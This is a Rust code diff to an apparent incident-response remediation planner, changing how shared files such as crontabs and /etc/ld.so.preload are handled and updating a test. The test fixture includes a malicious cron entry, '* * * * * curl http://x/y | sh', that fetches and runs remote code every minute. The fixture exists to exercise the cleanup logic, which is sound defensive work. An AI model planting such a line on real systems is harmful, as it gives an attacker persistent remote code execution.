@@ -210,6 +210,8 @@ struct Collect {
     files: BTreeMap<Vec<u8>, (FileTarget, Vec<String>, FileFate)>,
     /// Symbolic links to remove, by path.
     links: BTreeMap<Vec<u8>, (LinkTarget, Vec<String>)>,
+    /// Shared files named whole by a finding, by path, with their label for the responder.
+    shared: BTreeMap<Vec<u8>, String>,
     /// Lines to remove, by path then line number.
     lines: BTreeMap<Vec<u8>, WantedLines>,
     endpoints: BTreeMap<(IpAddr, u16), Vec<String>>,
@@ -317,10 +319,9 @@ impl Collect {
         } else if dump {
             FileFate::Quarantine
         } else if is_shared_file(recorded.as_bytes()) {
-            return self.manual(
-                label,
-                "a shared file is never removed whole (flagged lines in it are removed one by one)",
-            );
+            // Said only when no flagged line of it is removed either (see `build`).
+            self.shared.insert(recorded.0.clone(), label);
+            return;
         } else {
             let pkg = model.package_check(recorded.as_bytes());
             match pkg.map(|p| (p.verdict, p.package.clone())) {
@@ -557,6 +558,18 @@ pub fn build(model: &HostModel, doc: &FindingsDocument) -> Plan {
             }
         }
     }
+    // A shared file a finding names whole, with no flagged line removed from it: left to the responder.
+    for (path, label) in std::mem::take(&mut c.shared) {
+        if !edits
+            .iter()
+            .any(|(t, _, _)| t.path.as_bytes() == path.as_slice())
+        {
+            c.manual(
+                label,
+                "a shared file is never removed whole (flagged lines in it are removed one by one)",
+            );
+        }
+    }
 
     let mut items: Vec<PlanItem> = Vec::new();
     let mut push = |action: Action, why: Vec<String>| {
@@ -772,6 +785,7 @@ mod tests {
         let model = fixture::model(
             vec![
                 fixture::file(b"/var/spool/cron/crontabs/root", Some(RDB_CRONTAB)),
+                fixture::file(b"/etc/ld.so.preload", Some(b"/usr/lib/libjemalloc.so\n")),
                 fixture::file(
                     b"/var/spool/cron/crontabs/ops",
                     Some(b"17 3 * * * /usr/local/sbin/backup.sh\n* * * * * curl http://x/y | sh\n"),
@@ -794,6 +808,9 @@ mod tests {
             finding("MT-PER-001", Severity::High, "cron")
                 .subject(file_subject(&ops))
                 .subject(persistence_subject(&ops.path, 2)),
+            finding("MT-EVA-001", Severity::Medium, "locked").subject(file_subject(
+                model.file(b"/etc/ld.so.preload").expect("record"),
+            )),
         ];
         let plan = build(&model, &doc(findings));
         let quarantined: Vec<&[u8]> = plan
@@ -820,10 +837,20 @@ mod tests {
             edited,
             vec![(&b"/var/spool/cron/crontabs/ops"[..], vec![2])]
         );
-        assert!(plan
-            .manual
-            .iter()
-            .any(|m| m.contains("crontabs/ops") && m.contains("shared file")));
+        // Its lines are removed: no note asks the responder to deal with the whole file; a shared file
+        // named whole with no line flagged is left to the responder.
+        assert!(
+            !plan.manual.iter().any(|m| m.contains("crontabs/ops")),
+            "{:?}",
+            plan.manual
+        );
+        assert!(
+            plan.manual
+                .iter()
+                .any(|m| m.contains("/etc/ld.so.preload") && m.contains("shared file")),
+            "{:?}",
+            plan.manual
+        );
     }
 
     #[test]
